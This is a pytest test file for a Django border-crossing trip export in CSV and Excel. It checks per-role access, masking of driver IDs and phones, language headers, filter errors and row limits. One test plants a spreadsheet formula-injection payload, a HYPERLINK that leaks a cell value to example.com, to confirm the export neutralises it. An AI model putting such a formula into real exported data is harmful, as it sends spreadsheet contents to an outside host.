"""Trip exports (CSV and Excel): the list's trips and permissions, in the user's language, personal data masked."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.utils import timezone
from django.utils.translation import gettext, override

from crossings import exports
from crossings.models import Stage, Trip
from declarations import services as declaration_services
from enterprises.models import Driver
from gates.models import Direction
from tests.conftest import ApiClient, next_open_morning, vehicle

ID_NUMBER = "001089012345"
PHONE_SECRETS = ("+84912345678", "0912345678", "912345678", "0912 345 678")
OTHER_ID = "079090054321"
MASKED_ID = "*********345"
MASKED_PHONE = "+84******678"


@pytest.fixture
def trips(personas, submit):  # type: ignore[no-untyped-def]
    """firm1's truck at Hữu Nghị (confirmed, tomorrow) and firm2's at Tân Thanh (declared, in three days)."""
    huu_nghi = submit(vehicles=[vehicle(driver={"name": "Nguyễn Văn An", "identity_document": ID_NUMBER,
                                                "phone": "0912 345 678"})])
    declaration_services.do_confirm_registration(personas.actor("bql.huunghi"), huu_nghi["id"])
    tan_thanh = submit(as_="firm2", gate="tan-thanh", yard="xuan-cuong",
                       planned_arrival=next_open_morning(days=3).isoformat(),
                       vehicles=[vehicle(plate="12C-222.22", container_number="",
                                         driver={"name": "Hoàng Văn Bảo", "identity_document": OTHER_ID,
                                                 "phone": "0987 654 321"})])
    return {"huu_nghi": huu_nghi["number"], "tan_thanh": tan_thanh["number"]}


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark, for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def export_csv(api: ApiClient, query: str = "", **headers: str) -> list[list[str]]:
    response = api.get(f"/trips/export{query}", **headers)
    assert response.status_code == 200, response.content.decode()[:500]
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="trips-{timezone.localdate():%Y-%m-%d}.csv"'
    return csv_rows(response.getvalue())  # a streamed answer: read once


def numbers(rows: list[list[str]]) -> set[str]:
    return {row[0] for row in rows[1:]}


def assert_no_personal_data(text: str) -> None:
    for secret in (ID_NUMBER, OTHER_ID, *PHONE_SECRETS, "+84987654321", "0987654321"):
        assert secret not in text, secret


# --- who gets which trips, always masked ---------------------------------------------------------------------

@pytest.mark.parametrize("role", ["firm1", "customs.huunghi"])
def test_the_enterprise_and_the_gate_officer_get_their_trips_with_id_and_phone_masked(personas, trips, role):
    response = personas.api(role).get("/trips/export")
    assert response.status_code == 200
    body = response.getvalue()  # a streamed answer: read once
    assert_no_personal_data(body.decode("utf-8-sig"))
    rows = csv_rows(body)
    assert numbers(rows) == {trips["huu_nghi"]}, "only their own trips: firm2's truck at Tân Thanh is absent"
    row = dict(zip(rows[0], rows[1], strict=True))
    with override("vi"):
        assert row[gettext("Driver ID (masked)")] == MASKED_ID
        assert row[gettext("Driver phone (masked)")] == "'" + MASKED_PHONE  # a leading + is neutralised too
        assert row[gettext("Driver name")] == "Nguyễn Văn An"
        assert row[gettext("Plate")] == "12C-123.45"
        assert row[gettext("Container number")] == "CSQU3054383"
        assert row[gettext("Gate")] == "Hữu Nghị"
        assert row[gettext("Stage")] == str(Stage.REGISTERED.label)
        assert row[gettext("Direction")] == str(Direction.IMPORT.label)
        assert row[gettext("Fee (VND)")].isdigit()
        planned = timezone.localtime(Trip.objects.get(registration__number=trips["huu_nghi"]).registration
                                     .planned_arrival)
        assert row[gettext("Planned arrival")] == f"{planned:%Y-%m-%d %H:%M}"


def test_other_firms_and_officers_of_another_gate_do_not_get_them(personas, trips):
    assert numbers(export_csv(personas.api("firm2"))) == {trips["tan_thanh"]}
    assert numbers(export_csv(personas.api("customs.tanthanh"))) == {trips["tan_thanh"]}
    assert numbers(export_csv(personas.api("province"))) == {trips["huu_nghi"], trips["tan_thanh"]}


def test_the_excel_workbook_has_a_bold_frozen_header_and_masked_personal_data(personas, trips):
    response = personas.api("firm1").get("/trips/export?format=xlsx")
    assert response.status_code == 200, response.content.decode(errors="replace")[:500]
    assert response["Content-Type"] == exports.XLSX_TYPE
    assert response["Content-Disposition"] == f'attachment; filename="trips-{timezone.localdate():%Y-%m-%d}.xlsx"'
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            assert_no_personal_data(archive.read(name).decode("utf-8", errors="replace"))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert len(workbook.worksheets) == 1
    sheet = workbook.active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    with override("vi"):
        assert rows[0][0] == gettext("Registration number") == "Số tờ khai đăng ký"
        row = dict(zip(rows[0], rows[1], strict=True))
        assert row[gettext("Driver ID (masked)")] == MASKED_ID
        assert row[gettext("Driver phone (masked)")] == "'" + MASKED_PHONE
        assert isinstance(row[gettext("Fee (VND)")], int)
    assert len(rows) == 2 and rows[1][0] == trips["huu_nghi"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= 15


# --- language ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("header", "first", "stage"), [
    (None, "Số tờ khai đăng ký", "vi"),
    ("zh-hans", "申报单号", "zh-hans"),
    ("zh-CN,zh;q=0.9", "申报单号", "zh-hans"),
    ("en", "Registration number", "en"),
])
def test_headers_and_labels_are_in_the_language_asked_for(personas, trips, header, first, stage):
    extra = {"Accept-Language": header} if header else {}
    rows = export_csv(personas.api("firm1"), **extra)
    assert rows[0][0] == first
    assert len(rows[0]) == 15
    with override(stage):
        assert rows[1][rows[0].index(gettext("Stage"))] == str(Stage.REGISTERED.label)
        assert rows[1][rows[0].index(gettext("Outcome"))] == gettext("In progress")


def test_excel_headers_follow_the_language_too(personas, trips):
    response = personas.api("firm1").get("/trips/export?format=xlsx", **{"Accept-Language": "zh-hans"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "申报单号"
    assert sheet["J1"].value == "司机证件号码（已遮蔽）"


# --- filters -------------------------------------------------------------------------------------------------

def test_filters_by_gate_status_plate_and_planned_arrival_day(personas, trips):
    api = personas.api("province")
    assert numbers(export_csv(api, "?gate=tan-thanh")) == {trips["tan_thanh"]}
    assert numbers(export_csv(api, "?gate=huu-nghi")) == {trips["huu_nghi"]}
    assert numbers(export_csv(api, "?status=registered")) == {trips["huu_nghi"]}
    assert numbers(export_csv(api, "?status=declared")) == {trips["tan_thanh"]}
    assert numbers(export_csv(api, "?status=active")) == {trips["huu_nghi"], trips["tan_thanh"]}
    assert numbers(export_csv(api, "?plate=12c22222")) == {trips["tan_thanh"]}
    assert numbers(export_csv(api, "?plate=12C-222.22&status=registered")) == set()
    in_three_days = next_open_morning(days=3).date()
    assert numbers(export_csv(api, f"?date_from={in_three_days}")) == {trips["tan_thanh"]}
    assert numbers(export_csv(api, f"?date_to={in_three_days}")) == {trips["huu_nghi"], trips["tan_thanh"]}
    tomorrow = next_open_morning(days=1).date()
    assert numbers(export_csv(api, f"?date_from={tomorrow}&date_to={tomorrow}")) == {trips["huu_nghi"]}
    only_header = export_csv(api, "?gate=mong-cai-does-not-exist")
    assert len(only_header) == 1 and only_header[0][0] == "Số tờ khai đăng ký"


@pytest.mark.parametrize(("query", "field"), [
    ("?status=bogus", "status"),
    ("?format=pdf", "format"),
    ("?date_from=2026-13-40", "date_from"),
    ("?date_to=tomorrow", "date_to"),
    ("?date_from=1900-01-01", "date_from"),
    ("?date_from=2026-11-25&date_to=2026-11-24", "date_to"),
    ("?plate=ABC", "plate"),
])
def test_a_bad_filter_is_a_422_naming_the_field(personas, trips, query, field):
    response = personas.api("firm1").get(f"/trips/export{query}")
    assert response.status_code == 422, response.content.decode()[:500]
    body = response.json()
    assert body["code"] == "invalid"
    assert list(body["errors"]) == [field]
    assert body["errors"][field][0]
    assert body["detail"] == "Vui lòng sửa các lỗi dưới đây."


def test_every_bad_filter_is_named_at_once(personas, trips):
    response = personas.api("firm1").get("/trips/export?status=bogus&format=pdf&date_from=x",
                                         **{"Accept-Language": "en"})
    assert response.status_code == 422
    errors = response.json()["errors"]
    assert set(errors) == {"status", "format", "date_from"}
    assert errors["format"] == ["Choose one of: csv, xlsx."]
    assert errors["date_from"] == ["Enter a date such as 2026-11-24."]


def test_too_many_rows_is_a_422_asking_to_narrow_the_filters_never_a_cut(personas, trips, monkeypatch):
    monkeypatch.setattr(exports, "MAX_ROWS", 1)
    api = personas.api("province")
    for query in ("", "?format=xlsx"):
        response = api.get(f"/trips/export{query}", **{"Accept-Language": "en"})
        assert response.status_code == 422
        body = response.json()
        assert body["code"] == "too_many_rows"
        assert "Narrow the filters" in body["detail"]
    assert numbers(export_csv(api, "?gate=huu-nghi")) == {trips["huu_nghi"]}  # one row is within the bound


# --- spreadsheet formulas ------------------------------------------------------------------------------------

def test_a_cell_that_would_run_as_a_formula_gets_a_leading_apostrophe(personas, trips):
    formula = '=HYPERLINK("http://example.com/?leak="&A1,"Click")'
    Driver.objects.filter(identity_document=ID_NUMBER).update(name=formula)
    api = personas.api("firm1")
    rows = export_csv(api)
    with override("vi"):
        column = rows[0].index(gettext("Driver name"))
    assert rows[1][column] == "'" + formula
    sheet = openpyxl.load_workbook(io.BytesIO(api.get("/trips/export?format=xlsx").content)).active
    cell = sheet.cell(row=2, column=column + 1)
    assert cell.value == "'" + formula
    assert cell.data_type == "s", "text, not a formula"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(text):
    assert exports.neutralise(text) == "'" + text
    assert exports.neutralise("Nguyễn " + text) == "Nguyễn " + text


# --- access ----------------------------------------------------------------------------------------------------

def test_without_credentials_the_export_is_a_401(trips):
    response = ApiClient(None).get("/trips/export")
    assert response.status_code == 401
    assert response.json()["code"] == "unauthorized"
    assert_no_personal_data(response.content.decode())
